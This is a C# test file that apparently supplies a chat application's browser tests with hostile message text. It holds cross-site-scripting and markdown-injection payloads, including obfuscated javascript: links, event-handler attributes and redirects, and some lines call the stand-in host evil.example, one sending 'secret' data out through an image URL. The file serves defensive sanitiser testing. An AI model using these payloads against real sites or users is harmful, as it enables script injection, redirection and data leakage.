namespace ChatApp.Tests.Browser;

/// <summary>Texts that have run scripts, loaded resources or redirected users in other chat applications.</summary>
internal static class HostileText
{
    public const string Host = "evil.example";

    public static IReadOnlyList<string> Corpus { get; } =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<details open ontoggle=alert(1)>x</details>",
        "<style>body{background:url(https://evil.example/style)}</style>",
        "<link rel=stylesheet href=https://evil.example/css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example/><button autofocus onfocus=alert(1)>x</button></form>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "</textarea></div></article><script>alert(1)</script>",
        "</template><img src=x onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[x](//evil.example/double)",
        "[x](/\\evil.example/backslash)",
        "![x](https://evil.example/image?d=secret)",
        "![x](//evil.example/image)",
        "![x][img]\n\n[img]: https://evil.example/reference",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[![x](https://evil.example/nested)](javascript:alert(1))",
        "[x](https://example.org \"\" onmouseover=alert(1) \")",
        "[x](https://example.org){onclick=alert(1)}",
        "# Heading {onclick=alert(1) .x #y}",
        "```\"><img src=x onerror=alert(1)>\ncode\n```",
        "```js onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "https://evil.example/\"onmouseover=alert(1)",
        "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    ];
}
